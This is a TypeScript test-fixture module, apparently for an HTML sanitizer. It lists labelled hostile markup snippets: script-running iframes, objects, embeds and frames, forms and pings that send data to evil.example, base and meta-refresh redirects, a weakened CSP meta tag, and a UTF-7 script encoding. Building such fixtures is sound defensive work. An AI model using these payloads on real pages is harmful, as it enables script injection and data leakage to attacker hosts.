/** Elements that bring other documents, send something, or change what the page is. */
import { everyIn, texts } from "./hostile.ts";
import { mainWords } from "./words.ts";

export const embedding = [
  ...everyIn(
    {
      "a frame that runs": "<iframe src=javascript:hit()></iframe>",
      "a frame of a document": "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
      "a frame from elsewhere": "<iframe src=//evil.example></iframe>",
      "an object": "<object data=javascript:hit()></object>",
      "an object from elsewhere": '<object data="https://evil.example/x.swf" type="text/html">x</object>',
      "what is embedded": "<embed src=javascript:hit() code=https://evil.example/x>",
      "an applet": "<applet code=X archive=https://evil.example/x.jar></applet>",
      "a form": "<form action=javascript:hit()><button>x</button></form>",
      "a form that is sent elsewhere":
        "<form action=//evil.example><input name=x value=y><input type=submit></form>",
      "a button of a form elsewhere": "<button form=x formaction=javascript:hit()>x</button>",
      "another base": "<base href=//evil.example/>",
      "a base of links": '<base target="_top">',
      "another page after a while": "<meta http-equiv=refresh content='0;url=//evil.example'>",
      "another policy": "<meta http-equiv=Content-Security-Policy content='script-src *'>",
      "another encoding": "<meta charset=utf-7>+ADw-script+AD4-hit()+ADw-/script+AD4-",
      "a stylesheet": "<link rel=stylesheet href=//evil.example/x.css>",
      "an import": "<link rel=import href=//evil.example/x.html><link rel=prefetch href=//evil.example>",
      "a picture that tells": '<img src="https://evil.example/a.png?c=1" ping=//evil.example>',
      "a link that tells": '<a href="https://courier.example" ping="//evil.example">x</a>',
      "a picture of several":
        "<picture><source srcset=//evil.example/a.png><img src=//evil.example/b.png></picture>",
      "sound and film from elsewhere":
        "<video src=//evil.example poster=//evil.example><track src=//evil.example></video>",
      "a portal": "<portal src=//evil.example></portal><fencedframe src=//evil.example></fencedframe>",
      frames: "<frameset><frame src=javascript:hit()></frameset>",
      "a table's ground":
        "<table background=//evil.example/a.png><td background=//evil.example/b.png>x</table>",
    },
    mainWords,
  ),
  ...texts({
    "a frame over lines": "<iframe\nsrc\n=\njavascript:hit()>\n</iframe>\n",
    "another page after a while, in a block":
      "<meta\nhttp-equiv=refresh\ncontent='0;url=javascript:hit()'>\n",
  }),
];
